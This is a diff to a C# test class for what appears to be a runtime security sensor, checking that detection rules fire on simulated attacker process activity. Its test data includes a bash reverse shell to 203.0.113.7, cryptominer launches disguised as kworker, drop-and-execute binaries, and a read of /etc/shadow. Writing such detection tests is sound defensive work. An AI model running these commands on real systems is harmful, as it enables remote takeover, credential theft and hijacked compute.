@@ -51,6 +51,12 @@ public sealed class ProcessRules(RuleSensor sensor)
     [InlineData("Web Server Spawned Suspicious Child Process", "{gunicorn} child {deeds} child {wget} nothing", "proc.name=wget; proc.aname[2]=gunicorn")]
     [InlineData("Reverse Shell from Web Server", "{httpd} child /bin/bash -c 'true bash -i >& /dev/tcp/203.0.113.7/99 0>&1; true'", "proc.name=bash; proc.pname=httpd")]
     [InlineData("Schedule Cron Jobs", "{crontab} nothing", "proc.name=crontab")]
+    [InlineData("Run shell untrusted", "{nginx} child /usr/bin/perl -e 'system(q(echo x; true))'", "proc.name=sh; proc.pname=perl; proc.aname[2]=nginx")]
+    [InlineData("Run shell untrusted", "printf '#!/bin/sh\\ntrue\\n' > {dir}/s; chmod +x {dir}/s; {nginx} child {dir}/s; {nginx} child /bin/sh {dir}/s", "proc.name=sh; proc.pname=nginx")]
+    [InlineData("Known Cryptominer Process Executed", "setsid -w {xmrig} nothing", "proc.name=xmrig")]
+    [InlineData("Known Cryptominer Process Executed", "(exec -a kworker {minerd} nothing)", "proc.name=minerd; proc.exe=kworker")]
+    [InlineData("Launch Suspicious Network Tool on Host", "perl -e 'system(\"{nmap}\", \"nothing\")'", "proc.name=nmap; proc.pname=perl")]
+    [InlineData("DB program spawned process", "{mysqld} in-thread child /bin/true", "proc.name=true; proc.pname=mysqld")]
     public void OnTheHost(string rule, string line, string says) => sensor.Expect(rule, sensor.OnTheHost(line), says);
 
     [Theory]
@@ -80,6 +86,11 @@ public sealed class ProcessRules(RuleSensor sensor)
     [InlineData("Known Cryptominer Process Executed", "xmrig nothing", "proc.name=xmrig")]
     [InlineData("Web Server Spawned Shell", "nginx child /bin/sh -c true", "proc.name=sh; proc.pname=nginx")]
     [InlineData("Fileless execution via memfd_create", "{deeds} exec-memfd ghost /bin/deeds nothing", "proc.exepath=memfd:ghost")]
+    [InlineData("Drop and execute new binary in container", "cp /bin/deeds /bin/replaced; chmod 755 /bin/replaced; /bin/replaced nothing", "proc.name=replaced")]
+    [InlineData("Drop and execute new binary in container", "cp /bin/deeds {dir}/a; mv {dir}/a {dir}/b; {dir}/b nothing", "proc.name=b; proc.exepath={dir}/b")]
+    [InlineData("Drop and execute new binary in container", "cp /bin/deeds {dir}/a; ln {dir}/a {dir}/b; {deeds} vfork {dir}/b nothing", "proc.name=b")]
+    [InlineData("Drop and execute new binary in container", "mkdir /dev/shm/x; cp /bin/deeds {dir}/a; {deeds} in-thread program {dir}/a a nothing", "proc.name=a")]
+    [InlineData("Read sensitive file untrusted", "cd /etc; /bin/cat shadow", "proc.name=cat; fd.name=/etc/shadow")]
     public void InAContainer(string rule, string line, string says) => sensor.Expect(rule, sensor.InAContainer(line, ContainerKind.Plain), says);
 
     [Theory]
